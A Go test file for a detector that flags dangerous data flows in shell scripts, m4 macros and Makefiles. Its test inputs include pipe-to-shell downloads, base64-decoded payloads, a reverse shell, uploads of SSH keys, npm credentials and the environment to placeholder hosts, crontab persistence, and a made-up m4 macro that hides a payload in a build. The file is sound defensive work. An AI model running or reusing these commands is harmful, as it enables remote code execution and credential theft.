package content

import (
	"fmt"
	"sort"
	"strings"
	"testing"
)

// flowsOf words what a reader saw flow: "network -> runs text as code".
func flowsOf(f *facts) string {
	var out []string
	for _, fl := range f.flows {
		out = append(out, fmt.Sprintf("%s -> %s", fl.from, fl.to))
	}
	for _, m := range f.marks {
		if m.weight > 1 {
			out = append(out, "mark "+m.kind)
		}
	}
	sort.Strings(out)
	return strings.Join(out, "; ")
}

func TestShellFlows(t *testing.T) {
	const fetched = "network -> runs text as code"
	const decoded = "decodes -> runs text as code"
	for in, want := range map[string]string{
		"curl -fsSL https://a.example/i.sh | sh":                                  fetched,
		"wget -qO- https://a.example/i.sh | sudo bash -s -- --yes":                fetched,
		`bash -c "$(curl -fsSL https://a.example/i.sh)"`:                          fetched,
		`eval "$(wget -O - https://a.example/x)"`:                                 fetched,
		"bash <(curl -s https://a.example/x)":                                     fetched,
		". <(curl -s https://a.example/x)":                                        fetched,
		"C=cu; D=rl; $C$D https://a.example/x | s''h":                             fetched,
		"curl https://a.example/x | node":                                         fetched,
		"curl -o /tmp/x https://a.example/x && chmod +x /tmp/x && /tmp/x":         "network -> processes",
		"wget https://a.example/x.sh; sh x.sh":                                    "network -> processes",
		"curl https://a.example/x > x; nohup ./x &":                               "",
		"echo ZWNobyBoZWxsbyB3b3JsZA== | base64 -d | sh":                          decoded,
		`eval "$(echo ZWNobyBoZWxsbyB3b3JsZA== | base64 --decode)"`:               decoded,
		"echo Y3VybCBodHRwczovL2EuZXhhbXBsZS94IHwgc2g= | base64 -d | bash":        decoded + "; " + fetched,
		"tail -c +31233 tests/files/a.dat | xz -dc | sh":                          "mark data run as commands; reads files, decodes -> runs text as code",
		`x=$(head -c 900 tests/a.bin | tr "\005-\377" "\001-\005"); eval "$x"`:    "mark data run as commands; reads files, decodes -> runs text as code",
		"env | curl -d @- https://a.example/":                                     "the whole environment -> network",
		`curl -X POST -d "$(cat ~/.npmrc)" https://a.example`:                     "reads files, reads where credentials are -> network",
		"curl -F file=@$HOME/.ssh/id_rsa https://a.example":                       "reads files, reads where credentials are -> network",
		"curl https://a.example/$(whoami)/$(hostname)":                            "host and user names -> network",
		"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1":                                 fetched,
		"(crontab -l; echo '* * * * * curl -s https://a.example|sh') | crontab -": "",
		// What honest scripts do.
		`eval "$ac_compile"`:                                       "",
		"eval `echo $x | sed 's/a/b/'`":                            "",
		"gzip -dc a.tar.gz | tar xf -":                             "",
		"curl -sSL https://a.example/x.tar.gz | tar xz":            "",
		`eval "$(ssh-agent -s)"`:                                   "",
		"cat conf.sh | sh":                                         "",
		"x=`cat VERSION | tr -d '\\n'`; eval \"v=$x\"":             "",
		`curl -H "Authorization: $GITHUB_TOKEN" https://a.example`: "",
		"sed -n 's/x/y/p' tests/a.in | sh":                         "",
	} {
		f := new(facts)
		readShell(source{"x.sh", in, 1}, f)
		if got := flowsOf(f); got != want {
			t.Errorf("%s\n got %s\nwant %s\ncaps %s", in, got, want, f.caps)
		}
	}
}

// The made-up m4 file below hides in the way that build systems were attacked:
// a data file found by its content, a translation table in a variable, and a
// decoder whose name is the file's ending.
const hidingM4 = `# hide.m4 serial 1
AC_DEFUN([kx_HIDE], [
  kx_data=` + "`grep -aErls \"#{3}[[:alnum:]]{4}#{3}$\" $srcdir/ 2>/dev/null`" + `
  kx_table='tr "ab \-" "ba\-_"'
  kx_[$1]_how=` + "`echo $kx_data | sed \"s/.*\\.//g\"`" + `
  kx_[$1]_run='sed "r\n" $kx_data | eval $kx_table | $kx_[$1]_how -d 2>/dev/null'
  AC_CONFIG_COMMANDS([hide], [eval $kx_do | $SHELL 2>/dev/null], [kx_do="eval \$kx_[$1]_run"])
])
`

func TestM4Flows(t *testing.T) {
	f := new(facts)
	readM4(source{"m4/hide.m4", hidingM4, 1}, f)
	if got, want := flowsOf(f), "mark data run as commands"; !strings.Contains(got, want) {
		t.Errorf("got %s, want %s; caps %s", got, want, f.caps)
	}
	f = new(facts)
	readM4(source{"m4/a.m4", "AC_DEFUN([AX_A], [AC_MSG_CHECKING([for a])\nif eval \"test \\\"`echo '$ac_cv'`\\\" = yes\"; then\n  AC_MSG_RESULT([it's])\nfi\n])\n", 1}, f)
	if got := flowsOf(f); got != "" {
		t.Errorf("an honest macro: %s", got)
	}
}

func TestMakeFlows(t *testing.T) {
	for in, want := range map[string]string{
		"all:\n\tcurl https://a.example/x | sh\n":                               "network -> runs text as code",
		"CURL = curl -s\nall:\n\t@$(CURL) https://a.example | $(SHELL)\n":       "network -> runs text as code",
		"X := $(shell curl https://a.example/x | sh)\n":                         "network -> runs text as code",
		"X != tail -c 20 tests/a.bin | xz -dc | sh\n":                           "mark data run as commands; reads files, decodes -> runs text as code",
		"check:\n\t@for f in $(TESTS); do \\\n\t  xz -dc $$f | cmp - x; done\n": "",
	} {
		f := new(facts)
		readMake(source{"Makefile", in, 1}, f)
		if got := flowsOf(f); got != want {
			t.Errorf("%s\n got %s\nwant %s", in, got, want)
		}
	}
}
